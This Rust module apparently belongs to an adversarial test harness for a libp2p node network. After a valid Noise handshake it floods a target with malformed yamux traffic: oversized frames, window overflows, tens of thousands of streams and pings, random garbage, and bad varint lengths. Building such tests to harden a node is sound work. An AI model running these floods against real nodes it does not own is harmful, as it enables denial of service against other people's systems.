//! Abuse of the node network after a good handshake: what an attacker sends who has a key as everybody may have one.

use super::frames::yamux;
use super::{Counts, connect_from};
use crate::dice::Dice;
use futures::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use libp2p::core::upgrade::OutboundConnectionUpgrade;
use libp2p::{identity, noise};
use multistream_select::{Version, dialer_select_proto};
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;
use tokio::time::timeout;
use tokio_util::compat::TokioAsyncReadCompatExt;

const DATA: u8 = 0;
const WINDOW: u8 = 1;
const PING: u8 = 2;
const SYN: u16 = 1;
const HANDSHAKE: Duration = Duration::from_secs(5);
const WHOLE: Duration = Duration::from_secs(8);

/// What is sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum MuxerAbuse {
    /// A stream that begins with more than its window.
    Oversize,
    /// A window that overflows.
    Overflow,
    /// More streams than anybody needs.
    Streams,
    /// Pings that want answers.
    Pings,
    /// Frames of no kind.
    Garbage,
    /// A protocol's name whose length is no number.
    Varints,
}

impl MuxerAbuse {
    pub(crate) const ALL: [Self; 6] =
        [Self::Oversize, Self::Overflow, Self::Streams, Self::Pings, Self::Garbage, Self::Varints];

    /// What its handshakes are counted under.
    pub(crate) const fn name(self) -> &'static str {
        match self {
            Self::Oversize => "yamux oversize",
            Self::Overflow => "yamux overflow",
            Self::Streams => "yamux streams",
            Self::Pings => "yamux pings",
            Self::Garbage => "yamux garbage",
            Self::Varints => "yamux varints",
        }
    }
}

/// One attack of this kind.
pub(crate) async fn abuse(target: SocketAddr, kind: MuxerAbuse, mut dice: Dice, counts: Arc<Counts>) {
    let Some(stream) = connect_from(target, &mut dice, &counts).await else { return };
    let handshake = async {
        let (_, stream) = dialer_select_proto(stream.compat(), ["/noise"], Version::V1).await.ok()?;
        let key = identity::Keypair::generate_ed25519();
        let (_, secure) = noise::Config::new(&key).ok()?.upgrade_outbound(stream, "/noise").await.ok()?;
        let (_, raw) = dialer_select_proto(secure, ["/yamux/1.0.0"], Version::V1).await.ok()?;
        Some(raw)
    };
    let Ok(Some(mut raw)) = timeout(HANDSHAKE, handshake).await else { return };
    counts.shake_hands(kind.name());
    // the node ends the connection when it has enough
    let _ = timeout(WHOLE, act(&mut raw, kind, &mut dice)).await;
}

async fn act(
    raw: &mut (impl AsyncRead + AsyncWrite + Unpin),
    kind: MuxerAbuse,
    dice: &mut Dice,
) -> std::io::Result<()> {
    match kind {
        MuxerAbuse::Oversize => {
            let bytes = vec![0; 400 << 10];
            raw.write_all(&yamux(DATA, SYN, 1, 400 << 10, &bytes)).await?;
            raw.write_all(&yamux(DATA, SYN, 3, u32::MAX, &bytes)).await?;
        }
        MuxerAbuse::Overflow => {
            raw.write_all(&yamux(WINDOW, SYN, 1, u32::MAX, &[])).await?;
            for _ in 0..1000 {
                raw.write_all(&yamux(WINDOW, 0, 1, u32::MAX, &[])).await?;
            }
        }
        MuxerAbuse::Streams => {
            for stream in 0..20_000 {
                raw.write_all(&yamux(WINDOW, SYN, 1 + 2 * stream, 0, &[])).await?;
            }
        }
        MuxerAbuse::Pings => {
            for value in 0..50_000 {
                raw.write_all(&yamux(PING, SYN, 0, value, &[])).await?;
            }
        }
        MuxerAbuse::Garbage => raw.write_all(&dice.bytes(64 << 10)).await?,
        MuxerAbuse::Varints => {
            for stream in 0..200 {
                raw.write_all(&yamux(DATA, SYN, 1 + 2 * stream, 12, &[0xff; 12])).await?;
            }
        }
    }
    raw.flush().await?;
    let mut sink = [0; 1024];
    while raw.read(&mut sink).await? > 0 {}
    Ok(())
}
